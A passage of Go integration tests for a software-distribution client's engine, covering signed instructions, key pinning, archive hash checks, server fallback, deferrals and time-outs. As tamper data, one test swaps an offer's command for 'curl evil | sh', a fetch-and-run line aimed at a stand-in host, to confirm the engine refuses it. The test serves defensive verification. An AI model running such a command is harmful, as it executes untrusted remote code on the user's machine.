//go:build !windows

package client_test

// The engine against real parts: a site share and distribution shares that
// are local folders (opened through storage/shares like SMB ones), a real
// Badger client store, archives made by core/pack (or by hand, for the
// hostile ones) and real commands run by /bin/sh.

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	b64 "encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"opensms/core/client"
	"opensms/core/model"
	"opensms/core/pack"
	"opensms/core/protocol"
	"opensms/storage/clientstore"
	"opensms/storage/shares"
)

const pkgID = "S0100001"

var here = model.Platform(runtime.GOOS + "/" + runtime.GOARCH)

// clock is a settable clock.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

// testLog writes the engine's log into the test's.
type testLog struct{ t testing.TB }

func (l testLog) Write(p []byte) (int, error) {
	l.t.Helper()
	l.t.Log(strings.TrimSpace(string(p)))
	return len(p), nil
}

// site is a site share and two distribution shares in local folders, the
// site's key, and an enrolled client engine.
type site struct {
	t      *testing.T
	priv   ed25519.PrivateKey
	dir    string    // site share
	dists  [2]string // distribution shares
	out    string    // where test packages leave their effects
	clock  *clock
	data   string
	st     *clientstore.Store
	eng    *client.Engine
	cfgMod func(*client.Config)
	seq    uint64 // the number of the last instruction file signed
	// signedLast is the last instruction file signed, for replaying it.
	signedLast []byte
}

func newSite(t *testing.T, cfgMod ...func(*client.Config)) *site {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s := &site{t: t, priv: priv, dir: t.TempDir(), out: t.TempDir(), data: t.TempDir(),
		clock: &clock{t: time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)}}
	s.dists = [2]string{t.TempDir(), t.TempDir()}
	if len(cfgMod) > 0 {
		s.cfgMod = cfgMod[0]
	}
	info, err := protocol.EncodeSite(priv, protocol.SiteInfo{Code: "S01", Name: "Head Office", Published: s.clock.Now()})
	if err != nil {
		t.Fatal(err)
	}
	s.write(protocol.SiteFile, info)
	s.open()
	fp := protocol.Fingerprint(priv.Public().(ed25519.PublicKey))
	// Local folders ignore credentials; the engine must still carry them
	// to every server it connects to.
	if _, err := s.eng.Enroll(context.Background(), s.dir, model.Credentials{User: "pcm", Password: model.NewSecret("pw")}, "pc001", fp); err != nil {
		t.Fatal(err)
	}
	return s
}

// open (re)opens the client store and engine, as a restart would.
func (s *site) open() {
	s.t.Helper()
	if s.st != nil {
		s.st.Close()
	}
	st, err := clientstore.Open(s.data)
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { st.Close() })
	cfg := client.Config{
		DataDir: s.data, Computer: "PC001", Platform: here, ClientVersion: "test",
		Now: s.clock.Now, Opener: shares.NewOpener(), DeferFor: time.Hour,
		Logger: slog.New(slog.NewTextHandler(testLog{s.t}, &slog.HandlerOptions{Level: slog.LevelDebug})),
	}
	if s.cfgMod != nil {
		s.cfgMod(&cfg)
	}
	eng, err := client.New(cfg, st)
	if err != nil {
		s.t.Fatal(err)
	}
	s.st, s.eng = st, eng
}

// write puts a file on the site share.
func (s *site) write(name string, data []byte) {
	s.t.Helper()
	p := filepath.Join(s.dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		s.t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		s.t.Fatal(err)
	}
}

// archive is a package archive as the watchdog would have sent it.
type archive struct {
	sha  string
	size int64
	path string // local file
}

// packScript packs a folder holding install.sh with the given body.
func (s *site) packScript(body string) archive {
	s.t.Helper()
	src := s.t.TempDir()
	if err := os.WriteFile(filepath.Join(src, "install.sh"), []byte(body), 0o755); err != nil {
		s.t.Fatal(err)
	}
	st, path, err := pack.PackFile(context.Background(), src, s.t.TempDir(), pack.Options{})
	if err != nil {
		s.t.Fatal(err)
	}
	return archive{sha: st.SHA256, size: st.Size, path: path}
}

// distribute copies an archive onto distribution share i.
func (s *site) distribute(i int, a archive) {
	s.t.Helper()
	data, err := os.ReadFile(a.path)
	if err != nil {
		s.t.Fatal(err)
	}
	dst := filepath.Join(s.dists[i], pkgID, a.sha+protocol.ArchiveExt)
	os.MkdirAll(filepath.Dir(dst), 0o755)
	if err := os.WriteFile(dst, data, 0o644); err != nil {
		s.t.Fatal(err)
	}
}

func (s *site) servers() []protocol.ServerRef {
	return []protocol.ServerRef{{Name: "S01/DIST1", URL: "file://" + s.dists[0]}, {Name: "S01/DIST2", URL: "file://" + s.dists[1]}}
}

// offer is an automated offer of the archive, offered an hour ago.
func (s *site) offer(job string, a archive, change func(o *protocol.Offer)) protocol.Offer {
	o := protocol.Offer{
		Job: job, Package: pkgID, PackageName: "Hello", PackageVersion: "1.0",
		Command: model.CommandLine{Name: "Install", Command: "sh install.sh", Platforms: []model.Platform{here}, Automated: true,
			SuccessCodes: []int{0}, SoftRebootCodes: []int{3010}, HardRebootCodes: []int{1641}},
		OfferAfter: s.clock.Now().Add(-time.Hour), Deferrals: 3,
		Archive: a.sha, ArchiveSize: a.size, Servers: s.servers(), Generation: 1,
	}
	if change != nil {
		change(&o)
	}
	return o
}

// signed returns instructions for PC001 signed with key.
func (s *site) signed(key ed25519.PrivateKey, computer string, offers ...protocol.Offer) []byte {
	s.t.Helper()
	s.seq++
	data, err := protocol.EncodeInstructions(key, protocol.Instructions{Site: "S01", Computer: computer, Generated: s.clock.Now(),
		Sequence: s.seq, ValidUntil: s.clock.Now().Add(protocol.DefaultValidity), Offers: offers})
	if err != nil {
		s.t.Fatal(err)
	}
	s.signedLast = data
	return data
}

// instruct writes PC001's signed instruction file.
func (s *site) instruct(offers ...protocol.Offer) {
	s.t.Helper()
	s.write("instructions/PC001.ins", s.signed(s.priv, "PC001", offers...))
}

func (s *site) poll() []client.Offer {
	s.t.Helper()
	offers, err := s.eng.Poll(context.Background())
	if err != nil {
		s.t.Fatalf("poll: %v", err)
	}
	return offers
}

// status reads the status file the client wrote for job.
func (s *site) status(job string) protocol.Status {
	s.t.Helper()
	data, err := os.ReadFile(filepath.Join(s.dir, "status", "PC001", job+".json"))
	if err != nil {
		s.t.Fatalf("status of %s: %v", job, err)
	}
	enr, _ := s.eng.Enrolled()
	st, err := protocol.DecodeStatus(enr.Key.Public().(ed25519.PublicKey), data)
	if err != nil {
		s.t.Fatalf("status of %s: %v", job, err)
	}
	return st
}

func (s *site) noStatus(job string) {
	s.t.Helper()
	if _, err := os.Stat(filepath.Join(s.dir, "status", "PC001", job+".json")); !errors.Is(err, fs.ErrNotExist) {
		s.t.Fatalf("job %s has a status file (%v)", job, err)
	}
}

func (s *site) cacheDir(a archive) string {
	return filepath.Join(s.data, "cache", pkgID, a.sha)
}

func find(offers []client.Offer, job string) *client.Offer {
	for i := range offers {
		if offers[i].Job == job {
			return &offers[i]
		}
	}
	return nil
}

func TestEnrollPinsTheKeyAndWritesInventory(t *testing.T) {
	ctx := context.Background()
	s := newSite(t)
	enr, ok := s.eng.Enrolled()
	if !ok || enr.Computer != "PC001" || enr.SiteCode != "S01" || enr.SiteName != "Head Office" {
		t.Fatalf("enrolment %+v, %v", enr, ok)
	}
	data, err := os.ReadFile(filepath.Join(s.dir, "inventory", "PC001.json"))
	if err != nil {
		t.Fatal(err)
	}
	inv, err := protocol.DecodeInventory(data)
	if err != nil {
		t.Fatal(err)
	}
	if inv.Computer != "PC001" || inv.Site != "S01" || inv.OS != runtime.GOOS || inv.Arch != runtime.GOARCH ||
		inv.OSVersion == "" || inv.ClientVersion != "test" || inv.FreeDisk == 0 || !inv.Time.Equal(s.clock.Now()) {
		t.Errorf("inventory %+v", inv)
	}

	// Another site key at the same place: enrolling with the old
	// fingerprint is refused and changes nothing.
	_, other, _ := ed25519.GenerateKey(rand.Reader)
	info, _ := protocol.EncodeSite(other, protocol.SiteInfo{Code: "S01", Name: "Impostor", Published: s.clock.Now()})
	s.write(protocol.SiteFile, info)
	_, fp, err := s.eng.Probe(ctx, s.dir, model.Credentials{})
	if err != nil || fp != protocol.Fingerprint(other.Public().(ed25519.PublicKey)) {
		t.Fatalf("probe: %s, %v", fp, err)
	}
	_, err = s.eng.Enroll(ctx, s.dir, model.Credentials{}, "PC001", enr.Fingerprint)
	if !errors.Is(err, client.ErrUntrustedKey) || !strings.Contains(err.Error(), fp) {
		t.Fatalf("enrol with a different key: %v", err)
	}
	if _, err := s.eng.Enroll(ctx, s.dir, model.Credentials{}, "PC001", ""); !errors.Is(err, client.ErrUntrustedKey) {
		t.Fatalf("enrol trusting nothing: %v", err)
	}
	s.open() // restart: the enrolment and its key survive
	if again, ok := s.eng.Enrolled(); !ok || again.Fingerprint != enr.Fingerprint || again.SiteName != "Head Office" {
		t.Fatalf("after restart: %+v", again)
	}
	// The fingerprint may be typed without its prefix and with spaces.
	if !client.SameFingerprint(" "+strings.TrimPrefix(fp, "SHA256:")+" ", fp) || client.SameFingerprint("", "") {
		t.Error("SameFingerprint")
	}
}

func TestRunCompletesOnceUnlessAskedOrOfferedAgain(t *testing.T) {
	ctx := context.Background()
	s := newSite(t)
	marker := filepath.Join(s.out, "ran")
	a := s.packScript(fmt.Sprintf("echo \"run by $OPENSMS_JOB in $(pwd)\"\necho x >> %s\n", marker))
	s.distribute(0, a)
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now().Add(-time.Minute) }))

	offers := s.poll()
	if o := find(offers, "S0100010"); o == nil || o.State != client.OfferDue || !o.Mandatory {
		t.Fatalf("offers %+v", offers)
	}
	var steps []client.Step
	h, err := s.eng.Run(ctx, "S0100010", func(p client.Progress) {
		if len(steps) == 0 || steps[len(steps)-1] != p.Step {
			steps = append(steps, p.Step)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if h.State != model.TargetComplete || h.ExitCode == nil || *h.ExitCode != 0 || h.Server != "S01/DIST1" {
		t.Fatalf("history %+v", h)
	}
	if want := "run by S0100010 in " + s.cacheDir(a); !strings.Contains(h.OutputTail, want) {
		t.Errorf("output %q lacks %q", h.OutputTail, want)
	}
	if got := fmt.Sprint(steps); got != "[download verify unpack run]" {
		t.Errorf("steps %s", got)
	}
	if b, _ := os.ReadFile(marker); string(b) != "x\n" {
		t.Fatalf("the script's effect: %q", b)
	}
	st := s.status("S0100010")
	if st.State != model.TargetComplete || *st.ExitCode != 0 || st.Attempts != 1 || st.Started.IsZero() || st.Finished.IsZero() || !strings.Contains(st.OutputTail, "run by") {
		t.Errorf("status %+v", st)
	}
	if _, err := os.Stat(s.cacheDir(a) + ".ok"); err != nil {
		t.Errorf("no unpacked marker: %v", err)
	}
	if o := find(s.eng.Offers(), "S0100010"); o == nil || o.State != client.OfferComplete || o.Last == nil {
		t.Fatalf("after the run: %+v", o)
	}

	// Not again by itself, even after a restart.
	s.open()
	if hs, err := s.eng.RunDue(ctx, false, nil); err != nil || len(hs) != 0 {
		t.Fatalf("RunDue ran again: %+v, %v", hs, err)
	}
	// The user asks: it runs again, from the cache (no server).
	h, err = s.eng.Run(ctx, "S0100010", nil)
	if err != nil || h.Server != "" {
		t.Fatalf("re-run: %+v, %v", h, err)
	}
	if st := s.status("S0100010"); st.Attempts != 2 {
		t.Errorf("attempts %d", st.Attempts)
	}
	// Offered again (a new generation): due again.
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now().Add(-time.Minute); o.Generation = 2 }))
	s.poll()
	hs, err := s.eng.RunDue(ctx, true, nil)
	if err != nil || len(hs) != 1 || hs[0].Generation != 2 {
		t.Fatalf("generation 2: %+v, %v", hs, err)
	}
	if st := s.status("S0100010"); st.Generation != 2 || st.Attempts != 1 {
		t.Errorf("generation 2 status %+v", st)
	}
	if b, _ := os.ReadFile(marker); string(b) != "x\nx\nx\n" {
		t.Fatalf("ran %d times, want 3", strings.Count(string(b), "x"))
	}
	hist, err := s.eng.History(ctx)
	if err != nil || len(hist) != 3 || hist[0].Generation != 2 {
		t.Fatalf("history %+v, %v", hist, err)
	}
}

func TestRunDueRunsOnlyWhatIsDue(t *testing.T) {
	ctx := context.Background()
	s := newSite(t, func(c *client.Config) { c.SlowLink = true })
	a := s.packScript("exit 0\n")
	s.distribute(1, a)
	past, ahead := s.clock.Now().Add(-time.Minute), s.clock.Now().Add(time.Hour)
	s.instruct(
		s.offer("S0100001", a, func(o *protocol.Offer) { o.MandatoryAfter = past }),
		s.offer("S0100002", a, func(o *protocol.Offer) { o.MandatoryAfter = past; o.Command.Automated = false }),
		s.offer("S0100003", a, func(o *protocol.Offer) { o.MandatoryAfter = ahead }),
		s.offer("S0100004", a, nil),
		s.offer("S0100005", a, func(o *protocol.Offer) { o.MandatoryAfter = past; o.NotMandatoryOverSlowLinks = true }),
	)
	s.poll()
	hs, err := s.eng.RunDue(ctx, true, nil)
	if err != nil || len(hs) != 1 || hs[0].Job != "S0100001" || hs[0].Server != "S01/DIST2" {
		t.Fatalf("automated due: %+v, %v", hs, err)
	}
	hs, err = s.eng.RunDue(ctx, false, nil)
	if err != nil || len(hs) != 1 || hs[0].Job != "S0100002" {
		t.Fatalf("all due: %+v, %v", hs, err)
	}
	s.clock.Add(2 * time.Hour)
	hs, _ = s.eng.RunDue(ctx, true, nil)
	if len(hs) != 1 || hs[0].Job != "S0100003" {
		t.Fatalf("later: %+v", hs)
	}
	for _, job := range []string{"S0100004", "S0100005"} {
		if o := find(s.eng.Offers(), job); o == nil || o.State != client.OfferAvailable {
			t.Errorf("%s: %+v", job, o)
		}
		s.noStatus(job)
	}
}

func TestFallsBackToTheNextServerAndResumes(t *testing.T) {
	ctx := context.Background()
	s := newSite(t)
	a := s.packScript("echo hello\n" + strings.Repeat("# padding that makes the archive bigger\n", 2000))
	s.distribute(1, a)
	os.RemoveAll(s.dists[0]) // the first server is gone

	// Half of the archive is already in the cache from an interrupted run.
	data, _ := os.ReadFile(a.path)
	half := int64(len(data) / 2)
	part := filepath.Join(s.data, "cache", pkgID, a.sha+protocol.ArchiveExt+".part")
	os.MkdirAll(filepath.Dir(part), 0o700)
	os.WriteFile(part, data[:half], 0o600)

	s.instruct(s.offer("S0100010", a, nil))
	s.poll()
	var first *client.Progress
	h, err := s.eng.Run(ctx, "S0100010", func(p client.Progress) {
		if p.Step == client.StepDownload && first == nil {
			first = &p
		}
	})
	if err != nil || h.Server != "S01/DIST2" {
		t.Fatalf("run: %+v, %v", h, err)
	}
	if first == nil || first.Done != half || first.Total != a.size || first.Server != "S01/DIST2" {
		t.Errorf("first download progress %+v, want resumed at %d of %d", first, half, a.size)
	}
}

// refused checks that Poll refuses what the site share holds and then
// shows nothing.
func (s *site) refused(want error) {
	s.t.Helper()
	offers, err := s.eng.Poll(context.Background())
	if !errors.Is(err, client.ErrUntrusted) || (want != nil && !errors.Is(err, want)) {
		s.t.Fatalf("poll: %v, want %v", err, want)
	}
	if len(offers) != 0 || len(s.eng.Offers()) != 0 {
		s.t.Fatalf("offers shown from refused instructions: %+v", offers)
	}
	if _, last := s.eng.LastPoll(); last == nil {
		s.t.Error("LastPoll forgot the refusal")
	}
}

func TestRefusesInstructionsItCannotTrust(t *testing.T) {
	a := archive{sha: strings.Repeat("0", 64), size: 1}
	_, other, _ := ed25519.GenerateKey(rand.Reader)
	cases := []struct {
		name string
		file func(s *site) []byte
		want error
	}{
		{"signed by another key", func(s *site) []byte { return s.signed(other, "PC001", s.offer("S0100010", a, nil)) }, protocol.ErrWrongKey},
		{"edited after signing", func(s *site) []byte {
			var env map[string]string
			json.Unmarshal(s.signed(s.priv, "PC001", s.offer("S0100010", a, nil)), &env)
			payload, _ := json.Marshal(protocol.Instructions{Format: protocol.InstructionsFormat, Site: "S01", Computer: "PC001", Generated: s.clock.Now(),
				Offers: []protocol.Offer{s.offer("S0100010", a, func(o *protocol.Offer) { o.Command.Command = "curl evil | sh" })}})
			env["payload"] = b64.StdEncoding.EncodeToString(payload)
			out, _ := json.Marshal(env)
			return out
		}, protocol.ErrBadSignature},
		{"missing its signature", func(s *site) []byte {
			var env map[string]string
			json.Unmarshal(s.signed(s.priv, "PC001", s.offer("S0100010", a, nil)), &env)
			delete(env, "signature")
			out, _ := json.Marshal(env)
			return out
		}, protocol.ErrUnsigned},
		{"plain JSON, no envelope", func(s *site) []byte {
			out, _ := json.Marshal(protocol.Instructions{Format: protocol.InstructionsFormat, Site: "S01", Computer: "PC001", Offers: []protocol.Offer{s.offer("S0100010", a, nil)}})
			return out
		}, nil},
		{"signed for another computer", func(s *site) []byte { return s.signed(s.priv, "PC002", s.offer("S0100010", a, nil)) }, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSite(t)
			s.instruct(s.offer("S0100009", a, nil))
			if len(s.poll()) != 1 {
				t.Fatal("the good offer is not shown")
			}
			s.write("instructions/PC001.ins", c.file(s))
			s.refused(c.want)
			s.open() // nothing of it comes back after a restart
			if len(s.eng.Offers()) != 0 {
				t.Fatal("offers came back after a restart")
			}
			s.noStatus("S0100010")
		})
	}
}

func TestWithdrawnOffersDisappear(t *testing.T) {
	s := newSite(t)
	a := s.packScript("exit 0\n")
	s.instruct(s.offer("S0100010", a, nil), s.offer("S0100011", a, nil))
	if len(s.poll()) != 2 {
		t.Fatal("want two offers")
	}
	s.instruct(s.offer("S0100011", a, nil))
	if offers := s.poll(); len(offers) != 1 || offers[0].Job != "S0100011" {
		t.Fatalf("after withdrawal: %+v", offers)
	}
	os.Remove(filepath.Join(s.dir, "instructions", "PC001.ins"))
	// Missing once is the moment a replace over SMB leaves the name absent:
	// the verified offers stand; missing twice, they are gone.
	if offers := s.poll(); len(offers) != 1 {
		t.Fatalf("a file missing at one poll withdrew the offers: %+v", offers)
	}
	if offers := s.poll(); len(offers) != 0 {
		t.Fatalf("without a file at two polls: %+v", offers)
	}
	if _, err := s.eng.Run(context.Background(), "S0100011", nil); !errors.Is(err, client.ErrNotOffered) {
		t.Fatalf("run a withdrawn job: %v", err)
	}
}

// A file missing at one poll and back at the next changes nothing.
func TestInstructionFileMissingOnceKeepsOffers(t *testing.T) {
	s := newSite(t)
	a := s.packScript("exit 0\n")
	s.instruct(s.offer("S0100010", a, nil))
	if len(s.poll()) != 1 {
		t.Fatal("want one offer")
	}
	p := filepath.Join(s.dir, "instructions", "PC001.ins")
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	os.Remove(p)
	if offers := s.poll(); len(offers) != 1 {
		t.Fatalf("missing once: %+v", offers)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if offers := s.poll(); len(offers) != 1 {
		t.Fatalf("back again: %+v", offers)
	}
	os.Remove(p)
	if offers := s.poll(); len(offers) != 1 {
		t.Fatalf("missing once more after a good poll: %+v", offers)
	}
}

func TestOtherPlatformAndExpiredOffersAreReportedOnce(t *testing.T) {
	s := newSite(t)
	a := s.packScript("exit 0\n")
	other := model.Platform("windows/arm64")
	if here == other {
		other = "linux/386"
	}
	s.instruct(
		s.offer("S0100010", a, func(o *protocol.Offer) { o.Command.Platforms = []model.Platform{other} }),
		s.offer("S0100011", a, func(o *protocol.Offer) { o.ExpiresAfter = s.clock.Now().Add(-time.Minute) }),
		s.offer("S0100012", a, func(o *protocol.Offer) { o.OfferAfter = s.clock.Now().Add(time.Hour) }),
	)
	if offers := s.poll(); len(offers) != 0 {
		t.Fatalf("shown: %+v", offers)
	}
	if st := s.status("S0100010"); st.State != model.TargetFailed || !strings.Contains(st.Error, string(other)) || !strings.Contains(st.Error, string(here)) {
		t.Errorf("platform status %+v", st)
	}
	if st := s.status("S0100011"); st.State != model.TargetFailed || !strings.Contains(st.Error, "expired") {
		t.Errorf("expired status %+v", st)
	}
	s.noStatus("S0100012") // not yet offered is not a refusal
	// Said once: a second poll (even after a restart) does not write again.
	os.RemoveAll(filepath.Join(s.dir, "status"))
	s.open()
	s.poll()
	s.noStatus("S0100010")
	s.noStatus("S0100011")
	if _, err := s.eng.Run(context.Background(), "S0100010", nil); !errors.Is(err, client.ErrNotOffered) {
		t.Fatalf("run for another platform: %v", err)
	}
}

func TestArchiveThatDiffersFromTheSignedHashIsNotUnpacked(t *testing.T) {
	flip := func(b []byte) []byte { b[len(b)/2] ^= 0x01; return b } // same size: only the hash tells
	grow := func(b []byte) []byte { return append(b, "#!/bin/sh\n"...) }
	keep := func(b []byte) []byte { return b }
	cases := []struct {
		name         string
		dist1, dist2 func([]byte) []byte
		want         string // in the error; "" means it completes from DIST2
	}{
		{"one byte changed", flip, flip, "does not match the signed hash"},
		{"bytes added", grow, grow, "not the signed"},
		{"only the first copy is bad", flip, keep, ""},
		// The digest is taken while downloading: bytes resumed from an
		// interrupted download count too. A flipped byte early in the .part
		// file (before the tail a resume compares) fails DIST1's good copy.
		{"a resumed byte changed", keep, keep, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSite(t)
			marker := filepath.Join(s.out, "ran")
			noise := make([]byte, 300<<10)
			rand.Read(noise)
			a := s.packScript("echo x > " + marker + "\nexit 0\n" + b64.StdEncoding.EncodeToString(noise) + "\n")
			data, _ := os.ReadFile(a.path)
			for i, tamper := range []func([]byte) []byte{c.dist1, c.dist2} {
				dst := filepath.Join(s.dists[i], pkgID, a.sha+protocol.ArchiveExt)
				os.MkdirAll(filepath.Dir(dst), 0o755)
				os.WriteFile(dst, tamper(append([]byte(nil), data...)), 0o644)
			}
			resumed := strings.HasPrefix(c.name, "a resumed")
			if resumed {
				part := append([]byte(nil), data[:len(data)-1000]...)
				part[100] ^= 0x01
				p := filepath.Join(s.data, "cache", pkgID, a.sha+protocol.ArchiveExt+".part")
				os.MkdirAll(filepath.Dir(p), 0o700)
				os.WriteFile(p, part, 0o600)
			}
			s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now() }))
			s.poll()
			h, err := s.eng.Run(context.Background(), "S0100010", nil)
			if c.want == "" {
				if err != nil || h.Server != "S01/DIST2" {
					t.Fatalf("run: %+v, %v", h, err)
				}
				if _, err := os.Stat(marker); err != nil {
					t.Fatalf("the good copy did not run: %v", err)
				}
				return
			}
			if err == nil || h.State != model.TargetFailed || !strings.Contains(h.Error, c.want) {
				t.Fatalf("run: %+v, %v", h, err)
			}
			if _, err := os.Stat(marker); !errors.Is(err, fs.ErrNotExist) {
				t.Fatal("the tampered package ran")
			}
			if _, err := os.Stat(s.cacheDir(a)); !errors.Is(err, fs.ErrNotExist) {
				t.Fatalf("something was unpacked: %v", err)
			}
			st := s.status("S0100010")
			if st.State != model.TargetFailed || !strings.Contains(st.Error, "DIST1") || !strings.Contains(st.Error, "DIST2") || !strings.Contains(st.Error, c.want) {
				t.Errorf("status %+v", st)
			}
			// Failed for good: not due again.
			if o := find(s.eng.Offers(), "S0100010"); o == nil || o.State != client.OfferFailed {
				t.Errorf("offer after refusal: %+v", o)
			}
		})
	}
}

func TestUnreachableServersLeaveTheJobDue(t *testing.T) {
	s := newSite(t)
	a := s.packScript("exit 0\n")
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) {
		o.MandatoryAfter = s.clock.Now()
		o.Servers = []protocol.ServerRef{{Name: "S01/DOWN", URL: "smb://127.0.0.1:1/SMS_PKG"}}
	}))
	s.poll()
	hs, err := s.eng.RunDue(context.Background(), true, nil)
	if err == nil || len(hs) != 1 || hs[0].State != model.TargetRetrying {
		t.Fatalf("run: %+v, %v", hs, err)
	}
	if st := s.status("S0100010"); st.State != model.TargetRetrying || !strings.Contains(st.Error, "S01/DOWN") {
		t.Errorf("status %+v", st)
	}
	if o := find(s.eng.Offers(), "S0100010"); o == nil || o.State != client.OfferDue {
		t.Errorf("offer %+v", o)
	}
}

func TestCommandResults(t *testing.T) {
	cases := []struct {
		script string
		state  model.TargetState
		reboot model.Reboot
		exit   int
	}{
		{"exit 0", model.TargetComplete, model.RebootNone, 0},
		{"exit 3010", model.TargetComplete, model.RebootSoft, 3010 % 256},
		{"exit 7", model.TargetFailed, model.RebootNone, 7},
	}
	for _, c := range cases {
		t.Run(c.script, func(t *testing.T) {
			s := newSite(t)
			a := s.packScript(c.script + "\n")
			s.distribute(0, a)
			s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) {
				// Unix exit codes stop at 255: 3010 arrives as 194.
				o.Command.SoftRebootCodes = []int{3010 % 256}
			}))
			s.poll()
			h, err := s.eng.Run(context.Background(), "S0100010", nil)
			if (err == nil) != (c.state == model.TargetComplete) || h.State != c.state || h.Reboot != c.reboot || h.ExitCode == nil || *h.ExitCode != c.exit {
				t.Fatalf("run: %+v, %v", h, err)
			}
			st := s.status("S0100010")
			if st.State != c.state || st.Reboot != c.reboot || *st.ExitCode != c.exit {
				t.Errorf("status %+v", st)
			}
		})
	}
}

func TestTimeOutKillsTheWholeCommand(t *testing.T) {
	s := newSite(t)
	pidFile := filepath.Join(s.out, "child")
	// The child outlives its shell unless the whole group is killed.
	a := s.packScript("sleep 60 &\necho $! > " + pidFile + "\nsleep 60\n")
	s.distribute(0, a)
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.Command.Timeout = 500 * time.Millisecond }))
	s.poll()
	start := time.Now()
	h, err := s.eng.Run(context.Background(), "S0100010", nil)
	if took := time.Since(start); took > 15*time.Second {
		t.Errorf("the run took %v", took)
	}
	if err == nil || h.State != model.TargetFailed || h.ExitCode != nil || !strings.Contains(h.Error, "longer than its time-out of 500ms") {
		t.Fatalf("run: %+v, %v", h, err)
	}
	if st := s.status("S0100010"); st.State != model.TargetFailed || !strings.Contains(st.Error, "time-out") {
		t.Errorf("status %+v", st)
	}
	waitGone(t, pidFile)
}

func TestDeferrals(t *testing.T) {
	ctx := context.Background()
	s := newSite(t)
	a := s.packScript("exit 0\n")
	s.instruct(
		s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now(); o.Deferrals = 2 }),
		s.offer("S0100011", a, nil),
	)
	s.poll()
	left, err := s.eng.Defer(ctx, "S0100010")
	if err != nil || left != 1 {
		t.Fatalf("first Later: %d, %v", left, err)
	}
	o := find(s.eng.Offers(), "S0100010")
	if o.State != client.OfferAvailable || !o.DueAt.Equal(s.clock.Now().Add(time.Hour)) || o.DeferralsLeft != 1 {
		t.Fatalf("deferred offer %+v", o)
	}
	if hs, _ := s.eng.RunDue(ctx, true, nil); len(hs) != 0 {
		t.Fatalf("ran while deferred: %+v", hs)
	}
	s.clock.Add(time.Hour)
	if o := find(s.eng.Offers(), "S0100010"); o.State != client.OfferDue {
		t.Fatalf("after the deferral: %+v", o)
	}
	if left, err = s.eng.Defer(ctx, "S0100010"); err != nil || left != 0 {
		t.Fatalf("second Later: %d, %v", left, err)
	}
	s.open() // deferrals are kept
	s.clock.Add(2 * time.Hour)
	if _, err := s.eng.Defer(ctx, "S0100010"); !errors.Is(err, client.ErrNoDeferralsLeft) {
		t.Fatalf("third Later: %v", err)
	}
	if _, err := s.eng.Defer(ctx, "S0100011"); !errors.Is(err, client.ErrNotMandatory) {
		t.Fatalf("Later on an optional offer: %v", err)
	}
}

func TestStatusThatCouldNotBeWrittenIsSentAtTheNextPoll(t *testing.T) {
	s := newSite(t)
	away := s.dir + ".away"
	// The package takes the site share away while it runs.
	a := s.packScript(fmt.Sprintf("mv %s %s\n", s.dir, away))
	s.distribute(0, a)
	s.instruct(s.offer("S0100010", a, nil))
	s.poll()
	if h, err := s.eng.Run(context.Background(), "S0100010", nil); err != nil || h.State != model.TargetComplete {
		t.Fatalf("run: %+v, %v", h, err)
	}
	if err := os.Rename(away, s.dir); err != nil {
		t.Fatal(err)
	}
	if st := s.status("S0100010"); st.State != model.TargetRunning {
		t.Fatalf("before the poll: %+v", st)
	}
	s.open() // the pending status survives a restart
	s.poll()
	if st := s.status("S0100010"); st.State != model.TargetComplete || *st.ExitCode != 0 {
		t.Fatalf("after the poll: %+v", st)
	}
}

func TestServeRunsDueBackgroundJobsUntilStopped(t *testing.T) {
	s := newSite(t)
	marker := filepath.Join(s.out, "ran")
	a := s.packScript("echo x >> " + marker + "\n")
	s.distribute(0, a)
	s.instruct(
		s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now(); o.Command.Background = true }),
		s.offer("S0100011", a, func(o *protocol.Offer) {
			o.MandatoryAfter = s.clock.Now()
			o.Command.Automated, o.Command.Background = false, true
		}),
		// Automated but not a system background task: it waits for a
		// person's window to count it down.
		s.offer("S0100012", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now() }),
	)
	ctx, cancel := context.WithCancel(context.Background())
	changes := make(chan []client.Offer, 16)
	done := make(chan error, 1)
	go func() { done <- s.eng.Serve(ctx, 20*time.Millisecond, func(o []client.Offer) { changes <- o }) }()
	deadline := time.After(20 * time.Second)
	for {
		var offers []client.Offer
		select {
		case offers = <-changes:
		case <-deadline:
			t.Fatal("the agent did not run the due job")
		}
		if o := find(offers, "S0100010"); o != nil && o.State == client.OfferComplete {
			break
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("Serve: %v", err)
	}
	if b, _ := os.ReadFile(marker); string(b) != "x\n" {
		t.Fatalf("ran %q", b)
	}
	for _, job := range []string{"S0100011", "S0100012"} {
		if o := find(s.eng.Offers(), job); o.State != client.OfferDue {
			t.Errorf("the agent ran %s with nobody at a window: %+v", job, o)
		}
		s.noStatus(job)
	}
}

func TestKeptInstructionsShowBeforeTheFirstPoll(t *testing.T) {
	s := newSite(t)
